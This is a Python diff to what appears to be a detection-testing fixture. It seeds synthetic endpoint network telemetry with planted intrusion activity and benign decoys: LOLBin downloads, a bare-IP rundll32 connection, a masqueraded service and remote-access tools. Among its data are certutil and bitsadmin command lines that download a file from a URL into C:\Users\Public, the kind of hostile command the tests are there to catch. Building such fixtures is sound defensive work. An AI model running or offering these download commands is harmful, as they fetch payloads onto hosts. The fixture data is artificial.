@@ -70,8 +70,8 @@ PLANTED: Mapping[str, SeedPlan] = MappingProxyType({
               DeviceNames=(_fqdn("wks-0017"), _fqdn("wks-0042"))),
         _item("000", "plant", "rundll32_bare_ip", "seed 003's bare-IP rundll32.exe plant is also a rare "
               "process on an odd port (TCP 8080, public IPv4, no URL, one device)",
-              InitiatingProcessFileName="rundll32.exe", DeviceCount=1, Ports=(8080,), RemoteIPs=("45.9.148.99",),
-              DeviceNames=(_fqdn("wks-0039"),)),
+              InitiatingProcessFileName="rundll32.exe", DeviceCount=1, Ports=(8080,),
+              RemoteIPs=("45.9.148.99",), DeviceNames=(_fqdn("wks-0039"),)),
     ), decoys=(
         _item("000", "decoy", "common_tool", "TeamViewer on 6 devices (DeviceCount >= 4) on port 5938",
               InitiatingProcessFileName="teamviewer.exe", RemoteIP="217.146.13.135", RemotePort=5938),
@@ -111,7 +111,8 @@ PLANTED: Mapping[str, SeedPlan] = MappingProxyType({
         _item("003", "decoy", "exclusion_list", "LOLBin to login.live.com (the ExclusionList)",
               RemoteUrl="login.live.com", InitiatingProcessFileName="certutil.exe", DeviceName="wks-0012"),
         _item("003", "decoy", "microsoft_com", "LOLBin to *.microsoft.com (!endswith)",
-              RemoteUrl="download.microsoft.com", InitiatingProcessFileName="mshta.exe", DeviceName="wks-0058"),
+              RemoteUrl="download.microsoft.com", InitiatingProcessFileName="mshta.exe",
+              DeviceName="wks-0058"),
         _item("003", "decoy", "office_com", "LOLBin to www.office.com (!endswith office.com)",
               RemoteUrl="www.office.com", InitiatingProcessFileName="bitsadmin.exe", DeviceName="wks-0071"),
         _item("003", "decoy", "windows_net", "LOLBin to login.windows.net (!endswith windows.net)",
@@ -121,7 +122,7 @@ PLANTED: Mapping[str, SeedPlan] = MappingProxyType({
         _item("003", "decoy", "private", "LOLBin to an internal PKI server (RemoteIPType Private)",
               RemoteUrl="pki.contoso.local", InitiatingProcessFileName="certutil.exe", DeviceName="wks-0012",
               RemoteIP="10.10.1.60", RemotePort=80),
-        _item("003", "decoy", "failed", "LOLBin whose connections all failed (ActionType != ConnectionSuccess)",
+        _item("003", "decoy", "failed", "LOLBin whose connections all failed (not ConnectionSuccess)",
               RemoteUrl="dl.fileshare-cdn.top", InitiatingProcessFileName="bitsadmin.exe",
               DeviceName="wks-0071", RemoteIP="45.61.136.14", RemotePort=443),
     )),
@@ -130,7 +131,8 @@ PLANTED: Mapping[str, SeedPlan] = MappingProxyType({
               DeviceName="wks-0023", InitiatingProcessFileName="RuntimeBroker64.exe",
               RemoteIP="185.225.73.18", RemotePort=443),
     ), decoys=(
-        _item("004", "decoy", "fleet_updater", "low-jitter poller on 12 devices (> CompromisedDeviceCountMax)",
+        _item("004", "decoy", "fleet_updater",
+              "low-jitter poller on 12 devices (more than CompromisedDeviceCountMax = 10)",
               InitiatingProcessFileName="GoogleUpdate.exe", RemoteIP="142.250.184.238", RemotePort=443),
         _item("004", "decoy", "high_jitter", "periodic traffic with jitter far above 50 %",
               DeviceName="wks-0031", InitiatingProcessFileName="Dropbox.exe", RemoteIP="162.125.19.131",
@@ -157,13 +159,13 @@ PLANT_BINARIES: dict[str, Binary] = {
         "1.0.0.12", "Realtek HD Audio Service", "svchelper.exe", 412_160,
         r'"C:\ProgramData\RealtekHD\RtkAudioSvc.exe" -k netsvc', "svchost.exe", USER),
     "teamviewer": Binary(
-        "TeamViewer.exe", r"C:\Program Files\TeamViewer", "TeamViewer Germany GmbH", "TeamViewer", "15.49.2.0",
-        "TeamViewer 15", "TeamViewer.exe", 64_884_216, r'"C:\Program Files\TeamViewer\TeamViewer.exe"',
-        "TeamViewer_Service.exe", USER),
+        "TeamViewer.exe", r"C:\Program Files\TeamViewer", "TeamViewer Germany GmbH", "TeamViewer",
+        "15.49.2.0", "TeamViewer 15", "TeamViewer.exe", 64_884_216,
+        r'"C:\Program Files\TeamViewer\TeamViewer.exe"', "TeamViewer_Service.exe", USER),
     "client32": Binary(
-        "client32.exe", r"C:\ProgramData\SchCache", "NetSupport Ltd", "NetSupport Remote Control", "12.10.0.0",
-        "NetSupport Client Application", "client32.exe", 55_464, r'"C:\ProgramData\SchCache\client32.exe"',
-        "explorer.exe", USER),
+        "client32.exe", r"C:\ProgramData\SchCache", "NetSupport Ltd", "NetSupport Remote Control",
+        "12.10.0.0", "NetSupport Client Application", "client32.exe", 55_464,
+        r'"C:\ProgramData\SchCache\client32.exe"', "explorer.exe", USER),
     "anydesk": Binary(
         "AnyDesk.exe", r"C:\Users\{user}\Downloads", "philandro Software GmbH", "AnyDesk", "8.0.6", "AnyDesk",
         "AnyDesk.exe", 5_221_160, r'"C:\Users\{user}\Downloads\AnyDesk.exe"', "explorer.exe", USER),
@@ -176,7 +178,8 @@ PLANT_BINARIES: dict[str, Binary] = {
         "services.exe", SYSTEM, "System"),
     "certutil": Binary("certutil.exe", _SYS32, *_MS, "CertUtil.exe", "CertUtil.exe", 1_568_256,
                        "certutil.exe -urlcache -split -f {url} C:\\Users\\Public\\p.txt", "cmd.exe", USER),
-    "bitsadmin": Binary("bitsadmin.exe", _SYS32, *_MS, "BITS administration utility", "bitsadmin.exe", 190_464,
+    "bitsadmin": Binary("bitsadmin.exe", _SYS32, *_MS, "BITS administration utility", "bitsadmin.exe",
+                        190_464,
                         "bitsadmin /transfer job1 /download /priority high {url} C:\\Users\\Public\\u.dll",
                         "cmd.exe", USER),
     "mshta": Binary("mshta.exe", _SYS32, *_MS, "Microsoft (R) HTML Application host", "MSHTA.EXE", 14_336,
@@ -192,7 +195,8 @@ PLANT_BINARIES: dict[str, Binary] = {
         "explorer.exe", USER),
     "dropbox": Binary(
         "Dropbox.exe", r"C:\Program Files (x86)\Dropbox\Client", "Dropbox, Inc.", "Dropbox", "190.4.6383",
-        "Dropbox", "Dropbox.exe", 7_112_456, r'"C:\Program Files (x86)\Dropbox\Client\Dropbox.exe" /systemstartup',
+        "Dropbox", "Dropbox.exe", 7_112_456,
+        r'"C:\Program Files (x86)\Dropbox\Client\Dropbox.exe" /systemstartup',
         "explorer.exe", USER),
     "ccmexec": Binary(
         "CcmExec.exe", r"C:\Windows\CCM", "Microsoft Corporation", "System Center Configuration Manager",
@@ -291,7 +295,8 @@ def plant_bursts(now_us: int, days: int, seed: int) -> list[Burst]:
     add(wks(12), "certutil", "40.126.32.134", 443, spread(3), url="login.live.com")
     add(wks(58), "mshta", "23.45.201.70", 443, spread(2), url="download.microsoft.com")
     add(wks(71), "bitsadmin", "52.98.151.66", 443, spread(2), url="www.office.com")
-    add(wks(66), "certutil", "20.190.160.20", 443, spread(1), url="login.windows.net", file_name="Certutil.exe")
+    add(wks(66), "certutil", "20.190.160.20", 443, spread(1), url="login.windows.net",
+        file_name="Certutil.exe")
     add(wks(39), "rundll32", "204.79.197.219", 443, spread(1), url="www.msn.com")
     add(wks(12), "certutil", "10.10.1.60", 80, spread(3), url="pki.contoso.local")
     add(wks(71), "bitsadmin", "45.61.136.14", 443, spread(2), url="dl.fileshare-cdn.top",
